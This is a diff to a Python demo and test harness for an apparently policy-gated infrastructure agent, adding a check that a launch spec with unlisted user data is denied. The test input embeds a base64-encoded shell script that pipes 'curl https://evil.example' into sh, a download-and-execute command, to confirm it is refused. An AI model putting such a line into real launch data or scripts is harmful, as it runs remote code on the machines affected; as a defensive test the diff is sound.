@@ -6,6 +6,7 @@ or from a file, never from the agent's word. DEMO_BREAK=n breaks the cause of th
 configuration; the demo must then end with 1. KEEP=1 leaves everything running and prints how to explore it.
 """
 
+import base64
 import collections
 import contextlib
 import datetime
@@ -430,10 +431,27 @@ class Demo:
         more = f"; {len(repeats)} batch(es) whose answer a kill cut off came again" if repeats else ""
         return f"{len(results)} results, each stored once; nothing refused, no rule of the protocol broken{more}"
 
+    def foreign_user_data_is_refused(self):
+        """One stolen command key must not run a line of its own on the customer's machines."""
+        if self.breaks(20):
+            policy = self.stage.default_policy().replace("bounds:\n", "bounds:\n  user_data_sha256: [any]\n")
+            self.stage.write_policy(policy)
+        before = len(self.mutating())
+        script = base64.b64encode(b"#!/bin/sh\ncurl https://evil.example | sh\n").decode()
+        spec = self.spec.read_text().replace("    security_groups:", f"    user_data: {script}\n    security_groups:")
+        foreign = self.dir / "foreign.yaml"
+        foreign.write_text(spec)
+        self.ids["foreign"] = self.command("apply", foreign)
+        result = self.stage.wait_result(self.ids["foreign"], self.patience_s)
+        made = len(self.mutating()) - before
+        if result["state"] != "DENIED" or made or "user_data_sha256" not in result["error"]["message"]:
+            raise Failed(f"{result['state']}, {made} calls that change something")
+        return f"DENIED, no call that changes anything: {result['error']['message']}"
+
     def journal_verifies(self):
         status = self.stage.agent_stop()
         folder = self.dir / "state/journal"
-        if self.breaks(20):
+        if self.breaks(21):
             flip = f'sed -i \'3s/"seq":3/"seq":3 /\' {folder}/0000000000000001.jsonl'
             subprocess.run(sudo("sh", "-c", flip), check=True)
         script = REPO / "tests/demo/verify_journal.sh"
@@ -470,11 +488,14 @@ class Demo:
         self.check("A delete with one signature is refused", self.one_signature_is_refused)
         self.check("A delete with two signatures removes everything", self.two_signatures_delete)
         self.check("The vendor has each result once and nothing to complain of", self.vendor_is_content)
+        self.check(
+            "A launch with user data that the policy does not name is refused", self.foreign_user_data_is_refused
+        )
         if os.environ.get("KEEP"):
             self.keep()
         self.check("The journal verifies with jq and sha256sum", self.journal_verifies)
         self.close()
-        self.check("Nothing is left running", lambda: nothing_left(before, self.breaks(21)))
+        self.check("Nothing is left running", lambda: nothing_left(before, self.breaks(22)))
 
     def comes_back(self):
         self.restart_with_new_keys()
